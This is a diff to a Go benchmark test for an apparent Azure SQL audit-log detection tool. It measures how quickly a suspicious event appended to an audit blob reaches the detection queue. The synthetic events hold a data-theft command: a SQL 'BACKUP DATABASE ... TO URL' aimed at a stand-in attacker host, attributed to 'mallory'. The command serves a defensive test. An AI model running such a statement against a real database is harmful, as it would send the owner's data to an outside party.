@@ -209,20 +209,21 @@ func TestBench(t *testing.T) {
 	t.Logf("raw aztables: %d rows, %s, %.0f rows/s", rawRows, rawTime.Round(time.Millisecond), rawRate)
 	t.Logf("pipeline / raw = %.0f %%", 100*pipeRate/rawRate)
 
-	// 3. Append → detection on the queue, with the sweep every 10 s.
+	// 3. Append → detection on the queue, with the sweep on the default schedule.
 	lat := latency(t, ctx, a, day)
 	t.Logf("append → detection on queue: p50 %s (n=%d, all %v)", lat[len(lat)/2].Round(time.Millisecond), len(lat), lat)
 }
 
 // latency appends a backup record to a fresh blob at a random point of the
-// sweep's 10 s period and measures when its detection reaches the queue.
+// sweep's period (XELWATCH_SWEEP_SCHEDULE's default, "*/N * * * * *") and
+// measures when its detection reaches the queue.
 func latency(t *testing.T, ctx context.Context, a *app.App, day string) []time.Duration {
 	const n = 7
 	var out []time.Duration
 	sweepCtx, stop := context.WithCancel(ctx)
 	defer stop()
 	go func() {
-		tk := time.NewTicker(10 * time.Second) // XELWATCH_SWEEP_SCHEDULE default
+		tk := time.NewTicker(sweepPeriod(t, a.Cfg.SweepSchedule))
 		defer tk.Stop()
 		for {
 			so := a.SweepOptions()
@@ -238,23 +239,32 @@ func latency(t *testing.T, ctx context.Context, a *app.App, day string) []time.D
 	if _, err := a.Queue.ClearMessages(ctx, nil); err != nil {
 		t.Fatal(err)
 	}
+	// One audit file that grows, as Azure SQL writes it: Event Grid
+	// announces the blob at creation (AuditBlob gives it a cursor), then
+	// every append is picked up by the sweep.
+	var buf bytes.Buffer
+	xw, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096})
+	if err != nil {
+		t.Fatal(err)
+	}
+	name := fmt.Sprintf("latsrv/db1/aud/%s/01_00_00_000_0.xel", day)
+	ab := a.Blobs.Container().NewAppendBlobClient(name)
+	if _, err := ab.Create(ctx, nil); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := a.Pipeline.Ingest(ctx, name, ingest.RunOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	sent := 0
 	for i := range n {
 		time.Sleep(time.Duration(1300*(i+1)%10000) * time.Millisecond)
-		var buf bytes.Buffer
-		xw, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096})
-		if err != nil {
-			t.Fatal(err)
-		}
 		_ = xw.WriteAudit(xeltest.AuditEvent{EventTime: time.Now().UTC(), ActionID: "BA", ClassType: "DB", Succeeded: true,
 			ServerPrincipalName: "mallory", Statement: fmt.Sprintf("BACKUP DATABASE db1 TO URL = 'https://evil.example/%d.bak' WITH COPY_ONLY", i)})
 		_ = xw.Flush()
-		name := fmt.Sprintf("latsrv/db1/aud/%s/01_00_00_000_%d.xel", day, i)
-		ab := a.Blobs.Container().NewAppendBlobClient(name)
-		if _, err := ab.Create(ctx, nil); err != nil {
-			t.Fatal(err)
-		}
+		block := buf.Bytes()[sent:]
+		sent = buf.Len()
 		t0 := time.Now()
-		if _, err := ab.AppendBlock(ctx, rsc{bytes.NewReader(buf.Bytes())}, nil); err != nil {
+		if _, err := ab.AppendBlock(ctx, rsc{bytes.NewReader(block)}, nil); err != nil {
 			t.Fatal(err)
 		}
 		for {
@@ -275,4 +285,18 @@ func latency(t *testing.T, ctx context.Context, a *app.App, day string) []time.D
 	}
 	slices.Sort(out)
 	return out
+}
+
+// sweepPeriod reads N from a "*/N * * * * *" schedule (every N seconds).
+func sweepPeriod(t *testing.T, schedule string) time.Duration {
+	t.Helper()
+	f := strings.Fields(schedule)
+	if len(f) != 6 || !strings.HasPrefix(f[0], "*/") {
+		t.Fatalf("sweep schedule %q is not every-N-seconds", schedule)
+	}
+	n, err := strconv.Atoi(strings.TrimPrefix(f[0], "*/"))
+	if err != nil || n <= 0 {
+		t.Fatalf("sweep schedule %q: %v", schedule, err)
+	}
+	return time.Duration(n) * time.Second
 }
